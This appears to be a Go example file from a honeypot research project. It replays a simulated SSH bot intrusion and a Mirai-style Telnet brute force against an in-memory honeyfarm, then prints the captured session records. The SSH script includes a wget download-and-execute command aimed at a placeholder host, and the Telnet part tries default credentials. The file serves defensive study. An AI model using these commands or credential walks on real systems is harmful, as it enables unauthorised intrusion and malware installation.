@@ -1,0 +1,160 @@
+// Wirelevel: drive real protocol sessions against an in-process
+// honeyfarm — an SSH intrusion with a malware download and a Mirai-style
+// Telnet brute force — and show the Cowrie-style records the collector
+// captured, classified with the paper's taxonomy.
+//
+//	go run ./examples/wirelevel
+package main
+
+import (
+	"fmt"
+	"io"
+	"log"
+	"time"
+
+	"honeyfarm"
+	"honeyfarm/internal/sshwire"
+	"honeyfarm/internal/telnet"
+)
+
+func main() {
+	// A 12-honeypot farm; every honeypot speaks real SSH and Telnet over
+	// the in-memory fabric. The Fetch hook lets wget/curl "download".
+	farm, err := honeyfarm.NewFarm(honeyfarm.FarmConfig{
+		Seed:    7,
+		NumPots: 12,
+		Fetch: func(uri string) ([]byte, error) {
+			return []byte("#!/bin/sh\n# malware fetched from " + uri + "\n"), nil
+		},
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := farm.Start(); err != nil {
+		log.Fatal(err)
+	}
+	defer farm.Stop()
+
+	sshIntrusion(farm)
+	telnetBruteForce(farm)
+
+	// Give the collector a moment to flush both sessions.
+	deadline := time.Now().Add(5 * time.Second)
+	for farm.Collector().Len() < 2 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+	}
+
+	fmt.Println("collector records:")
+	for _, rec := range farm.Collector().Records() {
+		fmt.Printf("  session %d  honeypot=%d  proto=%s  client=%s  category=%s  term=%s\n",
+			rec.ID, rec.HoneypotID, rec.Protocol, rec.ClientIP, honeyfarm.Classify(rec), rec.Termination)
+		for _, l := range rec.Logins {
+			fmt.Printf("    login  %s:%s success=%v\n", l.User, l.Password, l.Success)
+		}
+		for _, c := range rec.Commands {
+			fmt.Printf("    cmd    %q known=%v\n", c.Input, c.Known)
+		}
+		for _, u := range rec.URIs {
+			fmt.Printf("    uri    %s\n", u)
+		}
+		for _, f := range rec.Files {
+			fmt.Printf("    file   %s %s hash=%s…\n", f.Op, f.Path, f.Hash[:16])
+		}
+	}
+}
+
+// sshIntrusion replays a typical bot playbook over real SSH-2
+// (curve25519-sha256 / ssh-ed25519 / aes128-ctr): recon, download,
+// chmod, execute, leave.
+func sshIntrusion(farm *honeyfarm.Farm) {
+	nc, err := farm.Fabric().Dial("203.0.113.99", farm.SSHAddr(3))
+	if err != nil {
+		log.Fatal(err)
+	}
+	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{
+		User: "root", Password: "vertex25ektks123", Version: "SSH-2.0-libssh2_1.8.0",
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer cc.Close()
+	sess, err := cc.OpenSession()
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := sshwire.RequestPTY(sess, "xterm", 80, 24); err != nil {
+		log.Fatal(err)
+	}
+	if err := sshwire.RequestShell(sess); err != nil {
+		log.Fatal(err)
+	}
+	script := []string{
+		"cat /proc/cpuinfo | grep name | wc -l",
+		"cd /tmp && wget http://load.example/bins/bot.sh && chmod 777 bot.sh",
+		"./bot.sh",
+		"exit",
+	}
+	go func() {
+		for _, cmd := range script {
+			if _, err := sess.Write([]byte(cmd + "\n")); err != nil {
+				return
+			}
+		}
+	}()
+	out, _ := io.ReadAll(sess)
+	fmt.Printf("ssh shell transcript (%d bytes):\n%s\n", len(out), indent(out))
+}
+
+// telnetBruteForce replays Mirai's dictionary walk: two failures, then
+// the root:1234 pair the paper's cluster always uses.
+func telnetBruteForce(farm *honeyfarm.Farm) {
+	nc, err := farm.Fabric().Dial("198.51.100.200", farm.TelnetAddr(5))
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer nc.Close()
+	c := telnet.NewConn(nc, false)
+	// Two rejected pairs first (root:root violates the policy; admin is
+	// not root), then the cluster's root:1234.
+	for _, cred := range [][2]string{{"root", "root"}, {"admin", "admin"}} {
+		ok, err := telnet.ClientLogin(c, cred[0], cred[1])
+		if err != nil {
+			log.Fatal(err)
+		}
+		if ok {
+			log.Fatalf("%s:%s unexpectedly accepted", cred[0], cred[1])
+		}
+	}
+	ok, err := telnet.ClientLogin(c, "root", "1234")
+	if err != nil || !ok {
+		log.Fatalf("mirai login failed: ok=%v err=%v", ok, err)
+	}
+	if err := c.WriteString("enable\r\nsh\r\n/bin/busybox MIRAI\r\nexit\r\n"); err != nil {
+		log.Fatal(err)
+	}
+	// Drain the shell output until the honeypot closes the session.
+	buf := make([]byte, 4096)
+	var transcript []byte
+	for {
+		b, err := c.ReadByte()
+		if err != nil {
+			break
+		}
+		transcript = append(transcript, b)
+		if len(transcript) >= len(buf) {
+			break
+		}
+	}
+	fmt.Printf("telnet transcript (%d bytes):\n%s\n", len(transcript), indent(transcript))
+}
+
+func indent(b []byte) string {
+	out := "    "
+	for _, c := range string(b) {
+		out += string(c)
+		if c == '\n' {
+			out += "    "
+		}
+	}
+	return out
+}
